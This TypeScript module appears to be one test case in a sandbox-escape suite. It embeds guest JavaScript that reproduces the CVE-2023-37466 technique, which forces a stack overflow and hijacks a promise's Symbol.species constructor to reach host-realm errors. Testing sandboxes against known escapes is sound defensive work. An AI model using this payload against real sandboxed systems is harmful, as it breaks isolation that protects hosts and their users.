import type { Attempt } from '../../attempt.ts'

export default {
  technique: 'Has the engine construct the promise of an overflow with a class of the guest.',
  source: 'CVE-2023-37466',
  guest: `
    (async () => {
      const got = []
      async function fail() { (function deeper() { new Error().stack; deeper() })() }
      const promise = fail()
      promise.constructor = { [Symbol.species]: class { constructor(run) { run((value) => value, (error) => { got.push(climb(error)) }) } } }
      try { promise.then() } catch {}
      const theirs = host.failLater('x')
      try { theirs.constructor = promise.constructor; theirs.then() } catch (error) { got.push(climb(error)) }
      await theirs.catch(() => 0)
      return got
    })()`,
  enter: ['eval', 'wait'],
  options: { timeout: 700 },
} satisfies Attempt
